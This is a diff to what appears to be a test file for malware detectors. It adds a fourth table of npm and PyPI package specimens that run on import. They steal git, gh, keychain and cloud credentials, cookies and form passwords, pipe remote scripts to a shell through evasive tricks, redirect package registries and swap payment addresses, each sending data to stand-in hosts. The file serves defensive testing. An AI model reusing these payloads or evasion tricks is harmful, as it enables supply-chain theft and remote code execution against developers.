@@ -1,7 +1,7 @@
 """Ideas that the detectors' authors had not thought of: written down unseen, then held. Each runs when it is imported.
 
-They came in three tables of fifty, forty-four and forty-six, of which ten, twenty-three and fifteen were missed when
-they were written. Those stand here, by what they do to whoever installs them.
+They came in four tables of fifty, forty-four, forty-six and seventy-five, of which ten, twenty-three, fifteen and
+fifteen were missed when they were written. Those stand here, by what they do to whoever installs them.
 """
 
 from tests.evasion.specimen import Specimen, npm, pypi
@@ -60,6 +60,22 @@ SPECIMENS: tuple[Specimen, ...] = (
     pypi(_TAKEN, "what a cloud's library finds", "import boto3, requests\nc = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post('https://b.invalid/', json={'a': c.access_key, 's': c.secret_key})\n"),
     pypi(_HARM, "code as a number", f"exec(({int.from_bytes(_CODE, 'big')}).to_bytes({len(_CODE)}, 'big').decode())\n"),
     pypi(_LASTING, "a copy where Windows starts from", "import os, shutil\nshutil.copy(__file__, os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'pad.pyw'))\n"),
+    # The fourth table
+    npm(_TAKEN, "a diagnostic report, which holds the environment", "const r=process.report.getReport();\nfetch('https://x.invalid/r',{method:'POST',body:JSON.stringify(r)});\n"),
+    npm(_TAKEN, "git's credentials", "const t=require('child_process').execFileSync('git',['credential','fill'],{input:'protocol=https\\nhost=github.com\\n'}).toString();\nfetch('https://x.invalid/?'+encodeURIComponent(t));\n"),
+    npm(_TAKEN, "a keychain", "const p=require('child_process').spawnSync('security',['find-generic-password','-wa','Chrome']).stdout;\nfetch('https://x.invalid/k',{method:'POST',body:p});\n"),
+    npm(_TAKEN, "gh's token", "const {execSync}=require('child_process');\nlet t='';try{t=execSync('gh auth token').toString()}catch{}\nif(t)fetch('https://x.invalid/t',{headers:{a:t}});\n"),
+    npm(_HARM, "options of Node for a child", "const cp=require('child_process');\ncp.spawn(process.execPath,['-e','0'],{env:{...process.env,NODE_OPTIONS:'--import=data:text/javascript,fetch(%22https://x.invalid/%22+JSON.stringify(process.env))'}});\n"),
+    npm(_TAKEN, "passwords of a page's forms", _PAGE % "  document.addEventListener('submit',(e)=>{const d=new FormData(e.target);navigator.sendBeacon('https://x.invalid/f',new URLSearchParams(d));},true);\n"),
+    npm(_TAKEN, "cookies that an extension sees", "if(typeof chrome!=='undefined'&&chrome.cookies)chrome.cookies.getAll({},(c)=>fetch('https://x.invalid/c',{method:'POST',body:JSON.stringify(c)}));\n"),
+    npm(_HARM, "a proxy of what is exported", "module.exports=new Proxy({},{get(t,k){require('child_process').exec('curl https://x.invalid|sh');return t[k]}});\n"),
+    npm(_HARM, "an own property of Error", "Error.prepareStackTrace=(e,s)=>{require('child_process').exec('curl https://x.invalid|sh');return s};\nnew Error().stack;\n"),
+    npm(_LASTING, "npm's own configuration", "require('child_process').execSync('npm config set registry https://npm.x.invalid/ --location=global');\n"),
+    pypi(_HARM, "a doc string that runs", "'''import os;os.system('curl https://x.invalid|sh')'''\nexec(__doc__)\n"),
+    pypi(_LASTING, "a key of pip", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'config', 'set', 'global.index-url', 'https://pypi.x.invalid/simple'])\n"),
+    pypi(_HARM, "a module that is fetched and imported", "import sys, tempfile, urllib.request\nd = tempfile.mkdtemp()\nurllib.request.urlretrieve('https://x.invalid/h.py', d + '/helper_x.py')\nsys.path.insert(0, d)\nimport helper_x\n"),
+    pypi(_HARM, "comments that are code", "import inspect, sys\nexec('\\n'.join(l[3:] for l in inspect.getsource(sys.modules[__name__]).splitlines() if l.startswith('#: ')))\n#: import os\n#: os.system('curl https://x.invalid|sh')\n"),
+    pypi(_TAKEN, "strings of the collector", "import gc, re, urllib.request\nfound = [o for o in gc.get_objects() if isinstance(o, dict) and 'token' in o]\nurllib.request.urlopen('https://x.invalid/', repr(found).encode())\n"),
     # Known to be missed
     npm(_BETWEEN, "addresses of payments, wherever a page shows them", _PAGE % "  const swap = (n) => { if (n.nodeType === 3) n.data = n.data.replace(/\\b(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/g, 'bc1qexample'); else n.childNodes.forEach(swap); };\n  new MutationObserver((m) => m.forEach((r) => r.addedNodes.forEach(swap))).observe(document, { childList: true, subtree: true });\n", missed="what is shown in a page is not followed: the pattern alone weighs little"),
     npm(_HARM, "code that a page keeps", "if (typeof localStorage !== 'undefined') {\n  const k = localStorage.getItem('_pt');\n  if (k) Function(k)();\n  else fetch('https://l.invalid/c').then((r) => r.text()).then((t) => localStorage.setItem('_pt', t));\n}\n", missed="what a page keeps is not followed from one visit to the next"),
